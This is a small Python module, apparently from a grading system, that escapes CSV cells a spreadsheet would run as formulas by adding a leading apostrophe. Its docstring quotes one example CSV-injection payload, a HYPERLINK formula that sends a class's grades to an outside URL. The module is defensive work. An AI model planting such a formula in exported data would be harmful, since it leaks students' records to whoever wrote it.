"""CSV cells that a spreadsheet shows as text and never runs.

A check's message, a load problem or a student's folder name is text the learner controls. In a CSV, a cell that
starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one) is a formula to Excel, LibreOffice
and Google Sheets, and a formula such as ``=HYPERLINK("https://...?d="&TEXTJOIN(",",TRUE,A1:J400), "regrade")``
sends the whole class's grades to whoever wrote it (OWASP, "CSV injection"). Such a cell gets a leading apostrophe,
which spreadsheets take as "text" (some show it, which is harmless); numbers are left as they are.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell(value: object) -> object:
    """``value``, with an apostrophe in front if it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def row(values: dict) -> dict:
    """Every cell of a ``csv.DictWriter`` row through ``cell``."""
    return {key: cell(value) for key, value in values.items()}
